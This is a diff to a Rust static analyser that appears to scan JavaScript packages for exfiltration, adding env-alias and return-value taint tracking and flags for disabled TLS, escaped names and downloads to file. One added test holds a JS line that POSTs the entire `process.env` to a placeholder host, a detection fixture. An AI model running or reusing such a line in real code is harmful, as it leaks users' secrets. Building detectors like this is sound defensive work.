@@ -153,14 +153,18 @@ pub(crate) fn analyse(path: &str, source: &str, kind: JsKind) -> JsFileResult {
     v.visit_program(&ret.program);
     // Values that reach local functions' parameters: a second pass follows
     // them into the function bodies (only when something sensitive is passed).
-    let needs_seeds = v.param_seeds.values().any(|s| s.taint & EXFIL_SOURCES != 0);
+    let needs_seeds = v.param_seeds.values().any(|s| {
+        s.taint & EXFIL_SOURCES != 0 || s.partial.as_deref().and_then(classify::sensitive_path).is_some_and(|(_, secret)| secret)
+    }) || v.fn_returns.values().any(|t| t & EXFIL_SOURCES != 0);
     let needs_decoders = v.eval_of_local_call && !v.decoder_fns.is_empty();
     if needs_seeds || needs_decoders {
         let seeds = std::mem::take(&mut v.param_seeds);
         let decoders = std::mem::take(&mut v.decoder_fns);
+        let returns = std::mem::take(&mut v.fn_returns);
         v = Analyzer::new(path, source);
         v.seeded = seeds;
         v.known_decoder_fns = decoders;
+        v.known_fn_returns = returns;
         v.visit_program(&ret.program);
     }
     result.facts = v.facts;
@@ -233,6 +237,9 @@ struct Analyzer<'s> {
     known_decoder_fns: HashSet<String>,
     /// A dynamic-code sink received the result of a local function call.
     eval_of_local_call: bool,
+    /// Taint of what local functions return, by name (this pass and the last).
+    fn_returns: HashMap<String, Taint>,
+    known_fn_returns: HashMap<String, Taint>,
 }
 
 /// What callers pass to one parameter of a local function.
@@ -263,6 +270,8 @@ impl<'s> Analyzer<'s> {
             decoder_fns: HashSet::new(),
             known_decoder_fns: HashSet::new(),
             eval_of_local_call: false,
+            fn_returns: HashMap::new(),
+            known_fn_returns: HashMap::new(),
         }
     }
 
@@ -343,6 +352,11 @@ impl<'s> Analyzer<'s> {
 
     /// Records what an expression binds to a name.
     fn bind(&mut self, name: &str, init: &Expression<'_>) {
+        if aliases_process_env(init) {
+            // An alias of `process.env`: reads through it are named reads.
+            self.holder(name).modules.insert(name.to_owned(), "process.env".to_owned());
+            return;
+        }
         if let Some(m) = self.module_value(init) {
             self.holder(name).modules.insert(name.to_owned(), m);
         }
@@ -828,6 +842,7 @@ impl<'s> Analyzer<'s> {
         match expr {
             Expression::Identifier(id) => match id.name.as_str() {
                 "__dirname" | "__filename" => SYSINFO,
+                n if self.module_of(n).is_some_and(|m| m == "process.env") => ENV_BULK,
                 n => self.taint_of_name(n),
             },
             Expression::StaticMemberExpression(m) => {
@@ -838,6 +853,9 @@ impl<'s> Analyzer<'s> {
                     return ENV_BULK;
                 }
                 if let Expression::Identifier(id) = m.object.get_inner_expression() {
+                    if self.module_of(id.name.as_str()).is_some_and(|m| m == "process.env") {
+                        return env_taint(m.property.name.as_str());
+                    }
                     if let Some(prop) = self.object_of(id.name.as_str()).and_then(|o| o.get(&m.property.name.to_ascii_lowercase())) {
                         return prop.taint | self.taint_of_name(id.name.as_str());
                     }
@@ -856,6 +874,10 @@ impl<'s> Analyzer<'s> {
             Expression::CallExpression(call) => {
                 let name = self.callee_name(&call.callee).unwrap_or_default();
                 let mut t = 0;
+                if let Expression::Identifier(id) = call.callee.get_inner_expression() {
+                    let n = id.name.as_str();
+                    t |= self.fn_returns.get(n).copied().unwrap_or(0) | self.known_fn_returns.get(n).copied().unwrap_or(0);
+                }
                 if is_sysinfo_api(&name) || is_process_api(&name) || name == "process.cwd" {
                     t |= SYSINFO;
                 }
@@ -994,6 +1016,10 @@ impl<'s> Analyzer<'s> {
         match expr.get_inner_expression() {
             Expression::CallExpression(call) => {
                 let name = self.callee_name(&call.callee)?;
+                if name == "fs.createWriteStream" {
+                    let destination = call.arguments.first().and_then(Argument::as_expression).and_then(|p| self.eval(p, true, 0));
+                    return Some(SinkObj { destination, api: name });
+                }
                 if name == "nodemailer.createTransport" || name == "nodemailer.createTransporter" {
                     return Some(SinkObj { destination: self.destination_of_call(call), api: "nodemailer".to_owned() });
                 }
@@ -1253,6 +1279,24 @@ impl<'s> Analyzer<'s> {
             return;
         }
         let Some(name) = self.callee_name(&call.callee) else {
+            // `fetch(u).then(cb)`, `res.on('data', cb)`: callbacks inherit the
+            // receiver's taint (a network response stays one).
+            if let Expression::StaticMemberExpression(m) = &call.callee {
+                let t = self.taint(&m.object, 0);
+                if t != 0 && matches!(m.property.name.as_str(), "then" | "on" | "once" | "finally" | "catch" | "pipe" | "subscribe") {
+                    for a in call.arguments.iter().filter_map(Argument::as_expression) {
+                        match a {
+                            Expression::ArrowFunctionExpression(f) => {
+                                self.callback_taint.insert(f.span.start, t);
+                            }
+                            Expression::FunctionExpression(f) => {
+                                self.callback_taint.insert(f.span.start, t);
+                            }
+                            _ => {}
+                        }
+                    }
+                }
+            }
             self.handle_method_on_sink(call);
             return;
         };
@@ -1457,6 +1501,12 @@ impl<'s> Analyzer<'s> {
                 }
                 self.push_network(Some("XMLHttpRequest.open".to_owned()), dest, call.span);
             }
+            "write" | "end" if sink.api == "fs.createWriteStream" => {
+                let t = args.iter().fold(0, |acc, a| acc | self.taint(a, 0));
+                if t & NETRESP != 0 {
+                    self.other("download-to-file", sink.destination.clone().unwrap_or_default(), call.span);
+                }
+            }
             "write" | "end" | "send" | "emit" | "sendMail" | "put" | "append" | "upload" | "uploadFrom" | "fastPut" => {
                 let t = args.iter().fold(0, |acc, a| acc | self.taint(a, 0));
                 let api = format!("{}.{method}", sink.api);
@@ -1547,6 +1597,15 @@ impl<'a> Visit<'a> for Analyzer<'_> {
 
     fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
         self.visit_expression(&it.right);
+        if let Some(member) = it.left.as_member_expression() {
+            let prop = member.static_property_name().map(|p| p.to_string()).or_else(|| match member {
+                MemberExpression::ComputedMemberExpression(c) => self.eval(&c.expression, false, 0),
+                _ => None,
+            });
+            if prop.as_deref() == Some("NODE_TLS_REJECT_UNAUTHORIZED") && self.eval(&it.right, false, 0).as_deref() == Some("0") {
+                self.other("tls-disabled", "NODE_TLS_REJECT_UNAUTHORIZED = 0".to_owned(), it.span);
+            }
+        }
         match &it.left {
             AssignmentTarget::AssignmentTargetIdentifier(id) => {
                 let name = id.name.as_str();
@@ -1686,7 +1745,25 @@ impl<'a> Visit<'a> for Analyzer<'_> {
 
     fn visit_object_expression(&mut self, it: &ObjectExpression<'a>) {
         self.check_email_payload(it);
+        for p in &it.properties {
+            if let ObjectPropertyKind::ObjectProperty(p) = p {
+                if p.key.static_name().is_some_and(|k| k == "rejectUnauthorized") && matches!(p.value.get_inner_expression(), Expression::BooleanLiteral(b) if !b.value) {
+                    self.other("tls-disabled", "rejectUnauthorized: false".to_owned(), p.span);
+                }
+            }
+        }
         walk::walk_object_expression(self, it);
+    }
+
+    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
+        if let (Some(arg), Some(Some(name))) = (&it.argument, self.fn_stack.last()) {
+            let t = self.taint(arg, 0);
+            if t != 0 {
+                let name = name.clone();
+                *self.fn_returns.entry(name).or_default() |= t;
+            }
+        }
+        walk::walk_return_statement(self, it);
     }
 
     fn visit_reg_exp_literal(&mut self, it: &RegExpLiteral<'a>) {
@@ -1698,6 +1775,13 @@ impl<'a> Visit<'a> for Analyzer<'_> {
     }
 
     fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
+        let v = it.value.as_str();
+        if (2..=40).contains(&v.len()) && v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
+            let raw = self.source.get(it.span.start as usize..it.span.end as usize).unwrap_or("");
+            if raw.contains("\\x") || raw.contains("\\u") {
+                self.other("escaped-name", v.to_owned(), it.span);
+            }
+        }
         self.scan_string(it.value.as_str(), it.span);
     }
 
@@ -1759,6 +1843,12 @@ impl<'a> Visit<'a> for Analyzer<'_> {
         self.taint_params(&it.params, taint);
         self.apply_seeds(fn_name.as_deref(), &it.params);
         walk::walk_arrow_function_expression(self, it);
+        if let (Some(body), Some(name)) = (it.body.as_expression(), &fn_name) {
+            let t = self.taint(body, 0);
+            if t != 0 {
+                *self.fn_returns.entry(name.clone()).or_default() |= t;
+            }
+        }
         self.fn_stack.pop();
         self.scopes.pop();
     }
@@ -1798,6 +1888,15 @@ fn is_process_env(e: &Expression<'_>) -> bool {
                 && matches!(m.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
         }
         _ => false,
+    }
+}
+
+/// `process.env`, possibly behind `cond ? process.env : {}` or `process.env || {}`.
+fn aliases_process_env(e: &Expression<'_>) -> bool {
+    match e.get_inner_expression() {
+        Expression::ConditionalExpression(c) => aliases_process_env(&c.consequent) || aliases_process_env(&c.alternate),
+        Expression::LogicalExpression(l) => aliases_process_env(&l.left) || aliases_process_env(&l.right),
+        inner => is_process_env(inner),
     }
 }
 
@@ -1852,6 +1951,8 @@ fn normalise_module(m: &str) -> String {
         "fs/promises" => "fs".to_owned(),
         "dns/promises" => "dns".to_owned(),
         "child_process/promises" => "child_process".to_owned(),
+        "request-promise" | "request-promise-native" | "requestretry" => "request".to_owned(),
+        "axios/index" => "axios".to_owned(),
         _ => m.to_owned(),
     }
 }
@@ -2024,6 +2125,7 @@ fn decode_kind(name: &str, call: &CallExpression<'_>, a: &Analyzer<'_>) -> Optio
         "decodeURIComponent" | "unescape" => "percent",
         "zlib.inflateSync" | "zlib.gunzipSync" | "zlib.unzipSync" | "zlib.brotliDecompressSync" | "zlib.inflateRawSync" => "compressed",
         "crypto.createDecipheriv" | "crypto.createDecipher" => "cipher",
+        "Buffer.from" if matches!(call.arguments.first().and_then(Argument::as_expression).map(|e| e.get_inner_expression()), Some(Expression::ArrayExpression(a)) if a.elements.len() > 8) => "bytes",
         "Buffer.from" => {
             let enc = call
                 .arguments
@@ -2160,6 +2262,14 @@ mod tests {
         );
         let flow = f.flows.iter().find(|f| f.source == "system-info").expect("flow");
         assert_eq!(flow.destination.as_deref(), Some("http://beacon.invalid/?h=*"));
+    }
+
+    #[test]
+    fn env_aliases_are_named_reads() {
+        let f = facts("const env = process.env;\nfunction f() { const who = env.TERM_PROGRAM; fetch('https://t.invalid/x', { method: 'POST', body: who }); }");
+        assert!(f.flows.is_empty(), "{:?}", f.flows);
+        let f = facts("const env = process.env;\nfunction f() { fetch('https://t.invalid/x', { method: 'POST', body: JSON.stringify(env) }); }");
+        assert_eq!(f.flows[0].source, "env");
     }
 
     #[test]
